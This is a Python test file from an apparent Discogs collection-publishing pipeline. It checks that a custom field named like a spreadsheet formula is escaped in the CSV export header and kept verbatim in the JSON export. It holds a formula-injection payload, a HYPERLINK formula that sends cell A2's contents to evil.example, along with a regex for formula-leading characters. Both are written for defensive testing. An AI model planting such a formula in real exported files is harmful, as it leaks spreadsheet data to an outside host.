"""Hostile text, from Discogs or users.yaml, cannot turn a published file against its reader: no CSV header runs
as a formula, every Atom feed stays well-formed XML, and a card is drawn at once whatever its genre's length."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from pipeline.build import build, open_instance
from pipeline.fakes.discogs import FakeDiscogs, generate_world
from tests.conftest import register, settings_for

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Condition")'


def _built(tmp_path: Path, world, users_yaml: str) -> Path:
    register(tmp_path, users_yaml, {"al": "alice"})
    with FakeDiscogs(world, rate_limit=1000, window=1) as fake:
        outcomes, published = build(settings_for(tmp_path, fake), instance=open_instance(tmp_path / "dagster"),
                                    report=lambda _: None)
    assert published and all(o.ok for o in outcomes), [o.error for o in outcomes]
    return tmp_path / "output"


def test_a_custom_field_named_like_a_formula_is_no_formula_in_the_csv_header(tmp_path):
    world = generate_world("alice:30", catalog_size=100)
    world.user("alice").fields[0]["name"] = FORMULA  # Media Condition, renamed by its owner
    users = f"users:\n  - name: al\n    discogs_username: alice\n    visibility: public\n" \
            f"    publish:\n      fields: ['{FORMULA}']\n"
    folder = _built(tmp_path, world, users) / "u" / "al" / "collection"
    header = next(csv.reader(io.StringIO((folder / "export.csv").read_bytes().decode("utf-8-sig"), newline="")))
    assert "'" + FORMULA in header and FORMULA not in header
    assert not [cell for cell in header if re.match(r"[=+\-@\t\r]", cell)]
    assert FORMULA in json.loads((folder / "export.json").read_text(encoding="utf-8"))[0]  # the exact name kept
